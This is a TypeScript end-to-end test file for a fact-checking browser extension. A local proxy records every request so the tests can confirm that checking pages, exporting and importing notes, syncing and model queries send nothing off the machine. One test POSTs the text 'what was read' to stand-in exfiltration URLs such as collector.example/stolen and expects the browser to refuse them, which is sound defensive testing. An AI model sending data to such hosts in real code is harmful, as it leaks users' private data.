// @module-tag walks
import { createServer, type Server } from 'node:http'
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { giveFolder, openSyncForm } from '@/tests/browser/folder-handle'
import { launchExtension, type Claimlight } from '@/tests/browser/extension'
import { serveSite, type Site } from '@/tests/browser/site'
import { tableOf } from '@/tests/browser/import-files'
import { fakeLanguageModel } from '@/tests/unit/model/fake-language-model'
import { AUTORESEARCH as REPORT } from '@/tests/unit/dossier/import/documents'
import { ownDossierFiles } from './own-dossier-files'
import { STORY_PAGE } from './story'
import { t } from '@/lib/i18n/t'
import { patternOf, plainWords } from '@/tests/words/pattern-of'

// All network requests of the browser go through this proxy: page, page agent, worker, panel.
let proxy: Server
let site: Site
let claimlight: Claimlight
const asked: string[] = []

/** The proxy answers in the place of a model server. */
const MODEL = 'http://127.0.0.1:11434/v1'
const NO_DIFFERENCE = JSON.stringify({ choices: [{ message: { content: '{"differs":[],"agrees":[]}' } }] })

beforeAll(async () => {
  site = await serveSite('tests/e2e', { '/story.html': STORY_PAGE })
  proxy = createServer((request, response) => {
    asked.push(request.url ?? '')
    if (request.url === `${site.url}/story.html`)
      response.writeHead(200, { 'content-type': 'text/html' }).end(STORY_PAGE)
    else if (request.url === `${MODEL}/chat/completions`)
      response.writeHead(200, { 'content-type': 'application/json' }).end(NO_DIFFERENCE)
    else response.writeHead(404).end()
  })
  proxy.on('connect', (request, socket) => {
    asked.push(request.url ?? '')
    socket.end()
  })
  await new Promise<void>((ready) => proxy.listen(0, '127.0.0.1', ready))
  const { port } = proxy.address() as AddressInfo
  claimlight = await launchExtension({
    allSites: true,
    args: [`--proxy-server=http://127.0.0.1:${port}`, '--proxy-bypass-list=<-loopback>'],
  })
})
afterAll(async () => {
  await claimlight.close()
  await site.close()
  proxy.closeAllConnections()
  proxy.close()
})

describe('no request leaves the browser', () => {
  test('when a page is read, checked and shown in the panel, except for the page itself', async () => {
    const page = await claimlight.open(`${site.url}/story.html`)
    await claimlight.waitForStatus(page, 'done')
    const panel = await claimlight.openPanel(page)
    await panel.getByRole('list', { name: t('page.findings') }).waitFor()
    for (const screen of ['dossier', 'dossiers', 'notes', 'check', 'settings'])
      await claimlight.open(`/sidepanel.html#/${screen}`)
    expect(asked, 'the proxy sees what is asked for').toContain(`${site.url}/story.html`)
    expect(others()).toEqual([])
  })

  test('a text and a file of one’s own are checked', async () => {
    const panel = await claimlight.open('/sidepanel.html#/check')
    await panel.getByRole('textbox', { name: t('check.text') }).fill('Andrej Karpathy left Tesla in March 2019.')
    await panel.keyboard.press('Control+Enter')
    await panel
      .getByRole('list', { name: t('page.findings') })
      .getByText(t('state.contradicted'))
      .waitFor()
    await panel.getByRole('button', { name: t('check.another') }).click()
    await panel.getByLabel(t('adding.choose')).setInputFiles({
      ...{ name: 'story.html', mimeType: '' },
      buffer: Buffer.from(
        `<article><h1>A</h1><img src="${site.url}/of-the-file.png"><p>Andrej Karpathy left Tesla in March 2019.</p></article>`,
      ),
    })
    await panel
      .getByRole('list', { name: t('page.findings') })
      .getByText(t('state.contradicted'))
      .waitFor()
    expect(others()).toEqual([])
  })

  test('dossiers are brought in from a report and from JSON, and saved as files', async () => {
    const files = ownDossierFiles()
    const report = { name: 'report.md', mimeType: '', buffer: Buffer.from(REPORT) }
    for (const [file, name] of [
      [files.dossier, 'Marie Curie'],
      [report, 'Mira Castell'],
    ] as const) {
      const panel = await claimlight.open('/sidepanel.html#/dossiers/add')
      await panel.getByLabel(t('adding.choose')).setInputFiles(file)
      await panel.getByRole('heading', { level: 1, name }).waitFor()
      if (file === report) {
        await panel.getByRole('textbox', { name: t('adding.asOf') }).fill('2026-03')
        await panel.getByRole('button', { name: t('adding.readAgain') }).click()
      }
      await panel.getByRole('button', { name: t('adding.add') }).click()
      await panel.getByRole('link', { name: t('adding.open') }).click()
      await panel.getByText(t('dossiers.save')).click()
      for (const form of ['As JSON', 'As Markdown', 'As YAML folder (ZIP)', 'Sources as BibTeX'])
        await saved(panel, panel.getByRole('button', { name: form }))
    }
    files.close()
    expect(others()).toEqual([])
  })

  test('a note is written, found in the library, exported in every form, and imported', async () => {
    const page = await claimlight.open(`${site.url}/story.html`)
    await claimlight.waitForStatus(page, 'done')
    const panel = await claimlight.openPanel(page)
    const finding = panel
      .getByRole('list', { name: t('page.findings') })
      .getByRole('listitem')
      .first()
    const toggle = finding.locator('[data-toggle]').first()
    if ((await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.click()
    await finding.getByRole('button', { name: t('finding.note'), exact: true }).click()
    const box = finding.getByRole('textbox', { name: t('notes.note'), exact: true })
    await box.fill(`A note with a picture: ![seen](${site.url}/of-the-note.png)`)
    await finding.getByRole('button', { name: t('notes.save') }).click()
    await box.waitFor({ state: 'detached' })
    await panel.close()
    const notes = await claimlight.open('/sidepanel.html#/notes')
    await notes.getByText('A note with a picture').first().waitFor()
    await notes.getByText(t('exporting.others')).click()
    const forms = await notes
      .getByRole('region', { name: t('exporting.do', 1) })
      .getByRole('button')
      .all()
    expect(forms.length).toBeGreaterThan(7)
    for (const form of forms) await saved(notes, form)
    await notes.goto(`chrome-extension://${claimlight.id}/sidepanel.html#/notes/import`)
    await notes
      .locator('.drop input[type=file]')
      .setInputFiles({ name: 'notes.csv', mimeType: 'text/csv', buffer: Buffer.from(tableOf(20)) })
    await notes.getByRole('button', { name: t('import.start', 20) }).click()
    await notes.getByRole('heading', { name: plainWords(t('import.done', 20)) }).waitFor()
    expect(others()).toEqual([])
  })

  test('notes are synced with a folder, and a change file is saved and read', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'claimlight-network-'))
    await giveFolder(claimlight.context, folder)
    const settings = await claimlight.open('/sidepanel.html#/settings')
    await openSyncForm(settings)
    await settings.getByLabel(t('sync.device')).fill('Laptop')
    await settings.getByRole('button', { name: t('sync.choose') }).click()
    await settings.getByText(patternOf('sync.last')).waitFor()
    expect(await readdir(folder)).toEqual(['claimlight-sync'])
    const [file] = await Promise.all([
      settings.waitForEvent('download'),
      settings.getByRole('button', { name: t('sync.save') }).click(),
    ])
    await settings.locator('input[accept=".ndjson"]').setInputFiles({
      ...{ name: file.suggestedFilename(), mimeType: '' },
      buffer: await readFile(await file.path()),
    })
    await settings.getByRole('button', { name: t('sync.stop') }).click()
    await settings.getByText(t('sync.setUp')).waitFor()
    // The last change file may still be on its way.
    await rm(folder, { recursive: true, force: true, maxRetries: 5 })
    expect(others()).toEqual([])
  })

  test('the browser’s model is asked about a finding', async () => {
    const page = await claimlight.open(`${site.url}/story.html`)
    await claimlight.waitForStatus(page, 'done')
    const panel = await claimlight.openPanel(page)
    const plan = JSON.stringify({ availability: 'available', behaviour: 'notSaid' })
    await panel.addInitScript({
      content: `Object.defineProperty(globalThis, 'LanguageModel', { value: (${String(fakeLanguageModel)})(${plan}) })`,
    })
    await claimlight.changeSettings({ secondOpinion: true })
    await panel.reload()
    const toggle = panel
      .getByRole('list', { name: t('page.findings') })
      .locator('[data-toggle]')
      .first()
    if ((await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.click()
    await panel
      .getByRole('button', { name: t('modelCheck.askSentence') })
      .first()
      .click()
    await panel.getByText(t('modelCheck.none')).first().waitFor()
    expect(others()).toEqual([])
  })

  test('a page is checked with a model server on this computer, and only that is connected to', async () => {
    const page = await claimlight.open(`${site.url}/story.html`)
    await claimlight.waitForStatus(page, 'done')
    await claimlight.changeSettings({ secondOpinion: true, modelServer: { address: `${MODEL}/`, model: 'tiny' } })
    const panel = await claimlight.openPanel(page)
    await panel.getByRole('button', { name: t('modelCheck.read') }).click()
    await panel.getByText(t('modelCheck.none')).waitFor()
    const [model, rest] = [
      others().filter((url) => url.startsWith(MODEL)),
      others().filter((url) => !url.startsWith(MODEL)),
    ]
    expect(rest).toEqual([])
    // The list of its models, where one can be chosen, and the questions.
    expect([...new Set(model)].sort()).toEqual([`${MODEL}/chat/completions`, `${MODEL}/models`])
    asked.splice(0, asked.length, ...asked.filter((url) => !url.startsWith(MODEL)))
  })

  test('from the panel or the worker, because the browser blocks them', async () => {
    const before = asked.length
    const panel = await claimlight.open('/sidepanel.html')
    const worker = await claimlight.worker()
    const attempts = [
      await panel.evaluate(send, 'http://collector.example/stolen'),
      await worker.evaluate(send, 'http://collector.example/stolen'),
      await panel.evaluate(send, 'http://192.168.1.5:11434/stolen'),
      await panel.evaluate(send, 'https://localhost.example/stolen'),
    ]
    expect(attempts).toEqual(['refused', 'refused', 'refused', 'refused'])
    expect(asked.slice(before).filter((url) => url.includes('stolen'))).toEqual([])
  })
})

/** Requests that are neither for the page that the user opened nor the browser's own. */
function others(): string[] {
  const thePageItself = new Set([`${site.url}/story.html`, `${site.url}/favicon.ico`])
  return asked.filter((url) => !thePageItself.has(url) && !isBrowsersOwn(url))
}

async function saved(page: Page, button: Locator): Promise<void> {
  await Promise.all([page.waitForEvent('download'), button.click()])
}

async function send(url: string): Promise<string> {
  return fetch(url, { method: 'POST', body: 'what was read' }).then(
    () => 'sent',
    () => 'refused',
  )
}

/** Chromium's own requests, which cannot be turned off: component updates and the address bar. */
function isBrowsersOwn(url: string): boolean {
  return /(?:^|[/.])(?:google\.com|googleapis\.com|gstatic\.com|gvt1\.com|google)(?::443|\/|$)/.test(url)
}
